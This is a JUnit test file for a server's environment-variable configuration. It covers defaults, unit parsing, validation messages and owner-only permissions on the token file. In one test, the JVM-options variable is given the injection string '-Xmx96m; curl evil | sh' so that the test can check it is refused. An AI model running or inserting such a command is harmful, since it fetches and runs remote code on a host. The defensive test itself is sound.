package dev.grid.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.grid.router.Transport;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ServerConfigTest {
    @TempDir
    Path home;

    private ServerConfig config(Map<String, String> more) throws Exception {
        var env = new java.util.HashMap<>(more);
        env.put("GRID_HOME", home.toString());
        return ServerConfig.fromEnv(env);
    }

    @Test
    void theRouterTransportIsTheBestOneHereUnlessNamed() throws Exception {
        assertEquals(Transport.choose(Transport.AUTO), config(Map.of()).routerTransport());
        assertEquals(Transport.NIO, config(Map.of("GRID_ROUTER_TRANSPORT", "nio")).routerTransport());
    }

    @Test
    void limitsAndIsolationHaveSafeDefaultsAndReadTheirUnits() throws Exception {
        ServerConfig c = config(Map.of());
        assertEquals(true, c.isolation());
        assertEquals(java.time.Duration.ofMinutes(15), c.buildLimits().timeout());
        assertEquals(1L << 30, c.buildLimits().pushBytes());
        assertEquals(200000, c.appUidMin());
        ServerConfig set = config(Map.of("GRID_BUILD_TIMEOUT", "90s", "GRID_PUSH_LIMIT", "512m", "GRID_ISOLATION", "off"));
        assertEquals(java.time.Duration.ofSeconds(90), set.buildLimits().timeout());
        assertEquals(512L << 20, set.buildLimits().pushBytes());
        assertEquals(false, set.isolation());
        assertEquals(java.time.Duration.ofHours(1), config(Map.of()).routerConfig().tcpIdleTimeout());
        assertEquals(10_000, config(Map.of()).routerConfig().tcpMaxConnections());
        assertEquals(java.time.Duration.ofMinutes(5), config(Map.of("GRID_TCP_IDLE_TIMEOUT", "5m")).routerConfig().tcpIdleTimeout());
        assertEquals(50, config(Map.of("GRID_TCP_MAX_CONNECTIONS", "50")).routerConfig().tcpMaxConnections());
        assertEquals(dev.grid.router.TcpDatapath.AUTO, config(Map.of()).routerConfig().tcpDatapath());
        assertEquals(dev.grid.router.TcpDatapath.PROXY, config(Map.of("GRID_TCP_DATAPATH", "proxy")).routerConfig().tcpDatapath());
        assertEquals("10.0.0.2", config(Map.of("GRID_HOST_ADDRESS", "10.0.0.2")).routerConfig().hostAddress(), "the router knows its host's backends");
    }

    @Test
    void metricsHaveAPortOfTheirOwnOnlyWhenOneIsNamed() throws Exception {
        assertEquals(-1, config(Map.of()).metricsPort(), "the API's /metrics is enough where the controller runs");
        assertEquals(7072, config(Map.of("GRID_METRICS_PORT", "7072")).metricsPort());
        for (String bad : new String[] {"-1", "65536", "metrics"}) {
            var e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_METRICS_PORT", bad)));
            assertEquals("invalid GRID_METRICS_PORT '" + bad + "': use a port number, e.g. 7072 (0 picks a free one)", e.getMessage());
        }
    }

    @Test
    void memoryOvercommitIsARatioFromOneToTen() throws Exception {
        assertEquals(1.0, config(Map.of()).memoryOvercommit());
        assertEquals(1.5, config(Map.of("GRID_MEMORY_OVERCOMMIT", "1.5")).memoryOvercommit());
        for (String bad : java.util.List.of("0.5", "11", "lots", "")) {
            var e = org.junit.jupiter.api.Assertions.assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_MEMORY_OVERCOMMIT", bad)));
            org.junit.jupiter.api.Assertions.assertTrue(e.getMessage().contains("give a ratio from 1 (no overcommit) to 10"), e.getMessage());
        }
    }

    @Test
    void secretsInGridHomeAreReadableByTheirOwnerOnly() throws Exception {
        config(Map.of()).token(Map.of());
        assertEquals("rw-------", java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(home.resolve("token"))));
    }

    @Test
    void badSettingsAreRefusedNamingTheVariable() throws Exception {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_ROUTER_TRANSPORT", "dpdk")));
        assertEquals("invalid GRID_ROUTER_TRANSPORT: unknown router transport 'dpdk': use auto or one of [io_uring, epoll, nio]", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_TCP_PORT_RANGE", "31000-30000")));
        assertEquals("invalid GRID_TCP_PORT_RANGE '31000-30000': use LOW-HIGH, e.g. 20000-20999", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_TCP_DATAPATH", "ebpf")));
        assertEquals("invalid GRID_TCP_DATAPATH 'ebpf': use auto, kernel or proxy", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_KEEPER_JAVA_OPTS", "-Xmx96m; curl evil | sh")));
        assertEquals("invalid GRID_KEEPER_JAVA_OPTS '-Xmx96m; curl evil | sh': give JVM options such as -Xmx96m, separated by spaces", e.getMessage(),
                "the options go into the keeper's launcher script: nothing else may");
        assertEquals("-Xmx96m -XX:+UseSerialGC", config(Map.of("GRID_KEEPER_JAVA_OPTS", " -Xmx96m -XX:+UseSerialGC ")).keeperJavaOptions());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_TCP_MAX_CONNECTIONS", "0")));
        assertEquals("invalid GRID_TCP_MAX_CONNECTIONS '0': use a number above 0, e.g. 10000", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_APP_UIDS", "1000-2000")));
        assertEquals("invalid GRID_APP_UIDS '1000-2000': use LOW-HIGH from 10000 up, clear of the machine's own users, e.g. 200000-299999", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_ISOLATION", "maybe")));
        assertEquals("invalid GRID_ISOLATION 'maybe': use on (the default) or off", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_BUILD_TIMEOUT", "soon")));
        assertEquals("invalid GRID_BUILD_TIMEOUT 'soon': use a positive duration such as 900s, 15m or 1h", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_NODE_REPLACE_AFTER", "never")));
        assertEquals("invalid GRID_NODE_REPLACE_AFTER 'never': use a positive duration such as 900s, 15m or 1h", e.getMessage());
        assertEquals(java.time.Duration.ofSeconds(60), config(Map.of()).nodeReplaceAfter());
        assertEquals(java.time.Duration.ofMinutes(5), config(Map.of("GRID_NODE_REPLACE_AFTER", "5m")).nodeReplaceAfter());
        assertEquals(null, config(Map.of("GRID_NODE_REPLACE_AFTER", "off")).nodeReplaceAfter());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_PUSH_LIMIT", "0")));
        assertEquals("invalid GRID_PUSH_LIMIT '0': use a positive size such as 512m or 1g", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_ETCD_USER", "grid")));
        assertEquals("GRID_ETCD_USER is set without a password: set GRID_ETCD_PASSWORD or GRID_ETCD_PASSWORD_FILE", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_ETCD_CA", "/no/such/ca.pem")));
        assertEquals("invalid GRID_ETCD_CA '/no/such/ca.pem': no readable file there", e.getMessage());
        e = assertThrows(IllegalArgumentException.class, () -> config(Map.of("GRID_ROLES", "router,dns")));
        assertEquals("unknown role 'dns' in GRID_ROLES: use " + ServerConfig.ALL_ROLES, e.getMessage());
    }
}
